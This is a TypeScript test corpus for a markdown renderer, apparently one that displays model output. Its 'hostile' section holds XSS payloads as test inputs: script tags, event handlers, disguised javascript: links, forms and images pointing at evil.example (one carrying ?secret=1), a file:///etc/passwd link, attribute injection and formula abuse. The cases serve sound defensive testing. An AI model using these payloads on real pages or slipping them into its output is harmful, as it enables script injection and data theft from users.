/** A text of the corpus. */
export interface Case {
  name: string;
  text: string;
  /** Selectors of elements that it must bring up. */
  shows?: string;
  /** What no moment may show, as a regular expression. */
  never?: string;
  /** What the shown HTML must hold. */
  holds?: string;
}

/** What the page calls if anything of a text runs. */
const attack = 'window.attacked()';

const headings: Case[] = [
  { name: 'headings', text: '# One\n\n## Two\n\ntext\n\n### Three\n\n# Four', shows: 'h5', never: '#' },
  { name: 'a heading by its underline', text: 'Title\n=====\n\ntext\n\nNext\n---\nmore', shows: 'h4', never: '[=-]' },
  { name: 'a heading without a space is none', text: '#hashtag and\n#another', holds: '#hashtag' },
  { name: 'a rule', text: 'above\n\n---\n\nbelow\n\n***\n', shows: 'hr', never: '[*-]' },
];

const lists: Case[] = [
  { name: 'a list', text: 'Take:\n\n- flour\n- *two* eggs\n- milk\n', shows: 'li em', never: '[*-]' },
  { name: 'a list right after text', text: 'Take:\n- flour\n- eggs\n\nStir.', shows: 'ul', never: '-' },
  { name: 'numbers from five', text: '5. five\n6. six\n7. seven', shows: 'ol[start="5"]' },
  { name: 'lists within lists', text: '1. a\n   - b\n     - c\n\n   more of a\n2. d', shows: 'ol ul ul' },
  { name: 'a loose list', text: '- a\n\n- b\n\n  more\n\n- c', shows: 'li > p' },
  { name: 'tasks', text: '- [x] read\n- [ ] written\n- plain', shows: '.task input:checked' },
  { name: 'code in a list', text: '1. Run:\n\n   ```sh\n   npm start\n   ```\n2. Look', shows: 'li .code', never: '`' },
  { name: 'a list, then other markers', text: '- a\n- b\n* c\n+ d\n1) e', shows: 'ul + ul' },
  { name: 'dashes that are no list', text: '-5 degrees\n-- or less\n- - nested', shows: 'p' },
];

const spans: Case[] = [
  {
    name: 'emphasis',
    text: 'some **bold**, *italic*, ***both*** and __more__ _of_ it.',
    shows: 'strong',
    never: '[*_]',
  },
  { name: 'strikethrough', text: 'it is ~~wrong~~ right', shows: 's', never: '~' },
  { name: 'names with underscores', text: 'call snake_case_name and __init__ of 2*3*4', holds: 'snake_case_name' },
  { name: 'code in a line', text: 'run `npm start`, ``a `tick` `` and `x`.', shows: 'p code' },
  {
    name: 'a link',
    text: 'see [the *docs*](https://example.com/a_b "A title") now',
    shows: 'a em',
    never: '\\]\\(|\\[',
  },
  { name: 'a bare link', text: 'at https://example.com/a?b=c_d, or www.example.com or a.md', shows: 'a' },
  { name: 'a link in angle brackets', text: 'at <https://example.com> and <me@example.com>', shows: 'a' },
  {
    name: 'a link that is defined later',
    text: 'See [docs] and [this][docs].\n\n- [docs]\n\n[docs]: https://example.com/d',
    shows: 'li a',
  },
  {
    name: 'a link to a path leads nowhere',
    text: 'read [this](./README.md) or [that](#part)',
    holds: 'title="./README.md"',
  },
  { name: 'brackets that are no link', text: 'the first [1] and [second] (of two) and arr[0](x', holds: '[second]' },
  {
    name: 'an image is a link',
    text: 'look: ![a **cat**](https://example.com/cat.png) here',
    shows: 'a',
    never: '\\]\\(',
  },
  { name: 'an image within a link', text: '[![badge](https://a.example/b.svg)](https://a.example)', shows: 'a' },
  { name: 'line breaks', text: 'one\ntwo  \nthree\\\nfour<br>five<br/>six', shows: 'br' },
  {
    name: 'escapes and entities',
    text: '\\*no\\* &amp; &lt;b&gt; &copy; \\# 5 \\< 6',
    holds: '*no* &amp; &lt;b&gt; ©',
  },
  { name: 'languages and emoji', text: '**日本語** と *العربية* and 👩‍👩‍👧‍👦 ça 🇫🇷', shows: 'strong' },
];

const blocks: Case[] = [
  { name: 'a quote', text: '> one\n> **two**\nlazy\n>\n> - three\n\nafter', shows: 'blockquote strong' },
  { name: 'quotes within quotes', text: '> a\n> > b\n> > > c\n\nd', shows: 'blockquote blockquote' },
  {
    name: 'a fence',
    text: 'Run:\n```sh\nnpm start\n\nnpm test\n```\nDone',
    shows: '.code-built_in, .code-language',
    never: '`',
  },
  {
    name: 'a fence of tildes',
    text: '~~~py\nprint("`" * 3)\n```\n~~~\nafter',
    shows: '.code .code-string',
    never: '~',
  },
  { name: 'a fence in a longer fence', text: '````md\n```ts\nlet a;\n```\n````\nafter', shows: '.code' },
  { name: 'a fence that never ends', text: '```js\nconst a = "<b>";\n// more', shows: '.code .code-comment' },
  { name: 'code that ends with blank lines', text: '```\na\n\n\n```\n\nb', shows: '.code' },
  { name: 'code by indentation', text: 'a\n\n    code <b>\n\n    more\n\nb', shows: '.code' },
  { name: 'an unknown language', text: '```brainfog\n+++ <x>\n```', shows: '.code' },
  {
    name: 'typescript',
    text: '```ts\ninterface A<T> { b?: T } // c\nconst d = `e ${1 + 2}`;\n```',
    shows: '.code-keyword',
  },
  { name: 'html in code', text: `\`\`\`html\n<script>${attack}</script>\n<p class="a">\n\`\`\``, shows: '.code-tag' },
  {
    name: 'a table',
    text: 'x\n\n| a | b |\n|:--|--:|\n| 1 | **2** |\n| `3` | 4 |\n\nafter',
    shows: 'td[data-align=right] strong',
    never: '\\|',
  },
  { name: 'a table without outer bars', text: 'a | b\n--|--\n1 | 2<br>3', shows: 'td br' },
  { name: 'a table that is none', text: 'x\na | b\n--|-x\n\nafter', holds: '--|-x' },
  { name: 'line ends of Windows', text: 'a\r\n\r\n- b\r\n- c\r\n\r\n```\r\nd\r\n```\r\ne', shows: 'ul' },
];

const formulas: Case[] = [
  { name: 'formulas in a line', text: 'so $x^2_1$ and \\(\\frac{a}{b}\\) are', shows: 'msup, msubsup' },
  {
    name: 'a formula of its own',
    text: 'So\n\n$$\n\\int_0^1 x\\,dx = \\frac12\n$$\n\nand',
    shows: 'math[display=block]',
  },
  { name: 'a formula in brackets', text: 'So\n\\[\n a - b\n- c \\sum_{i} i\n\\]\nand', shows: 'math[display=block]' },
  { name: 'a matrix', text: '$$\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}$$', shows: 'mtable' },
  { name: 'prices', text: 'from $5 to $10, or US$ 3 and $4', holds: 'from $5 to $10' },
  { name: 'a formula with a mistake', text: 'see $\\frac{a$ and $$\\nonsense{$$ end', holds: '\\frac{a' },
  { name: 'a formula that never ends', text: '$$\na\n- b\n\n- c\n\n\\(x', holds: '$$' },
];

const hostile: Case[] = [
  {
    name: 'a script',
    text: `a <script>${attack}</script> b\n\n<script>\n${attack}\n</script>`,
    holds: '&lt;script&gt;',
  },
  { name: 'an image with a handler', text: `<img src=x onerror="${attack}"> <svg onload=${attack}>`, holds: '&lt;img' },
  {
    name: 'frames and objects',
    text: '<iframe src="https://evil.example"></iframe><object data=https://evil.example>',
    holds: '&lt;iframe',
  },
  {
    name: 'styles',
    text: '<style>@import "https://evil.example/x.css";</style>\n<p style="background:url(https://evil.example/y)">',
  },
  {
    name: 'a form',
    text: '<form action="https://evil.example"><input name=key><button>Go</button></form>',
    holds: '&lt;form',
  },
  {
    name: 'a link that runs a script',
    text: `[a](javascript:${attack}) [b](JaVaScRiPt:${attack}) <javascript:${attack}>`,
  },
  {
    name: 'such a link in disguise',
    text: `[a](java&#115;cript:${attack}) [b](&#x6A;avascript:${attack}) [c](java%0ascript:x)`,
  },
  {
    name: 'such a link with controls',
    text: `[a](<java\tscript:${attack}>) [b](<\u0001javascript:${attack}>) [c](<javascript&colon;x>)`,
  },
  {
    name: 'vbscript, data, file and blob',
    text: '[a](vbscript:x) [b](data:text/html,x) [c](file:///etc/passwd) [d](blob:https://a.example/x)',
  },
  { name: 'a definition that runs a script', text: `[a][b] ![c][b]\n\n[b]: javascript:${attack}` },
  {
    name: 'an image that calls home',
    text: '![x](https://evil.example/?secret=1) ![y](//evil.example/z) ![](https://evil.example/a.gif)',
    shows: 'a',
  },
  {
    name: 'an image of data',
    text: '![x](data:image/svg+xml;base64,PHN2Zy8+) ![y](data:image/png;base64,AAAA)',
    holds: 'data:image',
  },
  {
    name: 'attributes out of a title',
    text: `[a](https://a.example "x\\" onmouseover=\\"${attack}") [b](https://a.example/"onclick="x)`,
    shows: 'a',
  },
  {
    name: 'attributes out of a language',
    text: `\`\`\`js" onload="${attack}\nx\n\`\`\`\n\n~~~<img/src=x>\ny\n~~~`,
    shows: '.code',
  },
  {
    name: 'formulas that link and load',
    text: `$\\href{javascript:${attack}}{x}$ $\\includegraphics{https://evil.example/x.png}$ $\\htmlClass{a}{b}$`,
  },
  {
    name: 'a formula with markup',
    text: '$<img src=x onerror=window.attacked()>$ and $\\text{<script>window.attacked()</script>}$',
  },
  { name: 'a formula that grows without end', text: '$\\def\\a{\\a\\a}\\a$ and $\\rule{9999em}{9999em}$' },
  {
    name: 'names of prototypes',
    text: '[__proto__] [constructor]\n\n[__proto__]: https://a.example\n\n```constructor\nx\n```\n```__proto__\ny\n```',
    shows: '.code',
  },
  {
    name: 'comments and declarations',
    text: '<!-- <b> --> <!DOCTYPE html> <![CDATA[x]]> <?php x ?>',
    holds: '&lt;!--',
  },
  { name: 'deep nesting', text: `${'> '.repeat(60)}a\n\n${'- '.repeat(60)}b\n\n${'['.repeat(60)}c` },
  { name: 'many delimiters', text: `${'*a_ '.repeat(40)}${'**'.repeat(20)}${'`'.repeat(31)} x ${'~'.repeat(9)}` },
  { name: 'controls and reversed text', text: 'a\u0000b\u202Eevil\u202C \u200B\uFEFF \u2028 c', holds: 'evil' },
  { name: 'half a character', text: 'a \ud83d b \udc4d **c**', shows: 'strong' },
];

/** The corpus: what models write, and what someone may make them write. */
export const cases: readonly Case[] = [headings, lists, spans, blocks, formulas, hostile].flat();
